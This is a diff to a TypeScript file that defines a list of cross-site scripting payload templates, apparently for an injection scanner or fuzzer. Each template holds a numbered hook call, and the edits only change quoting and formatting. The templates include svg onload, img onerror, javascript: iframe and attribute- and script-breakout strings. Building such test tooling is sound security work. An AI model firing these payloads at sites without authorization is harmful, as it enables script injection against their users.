@@ -95,7 +95,7 @@ const TEMPLATES: readonly string[] = [
   '"><iframe src=javascript:$X>',
   '" accesskey=x onclick="$X',
   '"\'><svg/onload=$X>',
-  '\' accesskey=\'x\' onclick=\'$X\'',
+  "' accesskey='x' onclick='$X'",
   '" src=x onerror=$X "',
   'x" onload="$X" y="',
   '&quot;&gt;&lt;img src=x onerror=$X&gt;',
@@ -192,7 +192,7 @@ const TEMPLATES: readonly string[] = [
   '<!--<script>',
   '<!--<script></script><script>$X</script>',
   '"};$X;//',
-  '\'};$X;//',
+  "'};$X;//",
   '\\";$X;//',
   '\u2028$X',
   '\u2029$X//',
@@ -262,7 +262,10 @@ export interface Payload {
 
 export const hookCall = (id: number) => `__xss(${id})`;
 
-export const PAYLOADS: readonly Payload[] = TEMPLATES.map((t, i) => ({ id: i + 1, text: t.replaceAll('$X', hookCall(i + 1)) }));
+export const PAYLOADS: readonly Payload[] = TEMPLATES.map((t, i) => ({
+  id: i + 1,
+  text: t.replaceAll('$X', hookCall(i + 1)),
+}));
 
 /**
  * Payloads packed into as few strings as fit in `max` characters each (for short fields such as headlines,
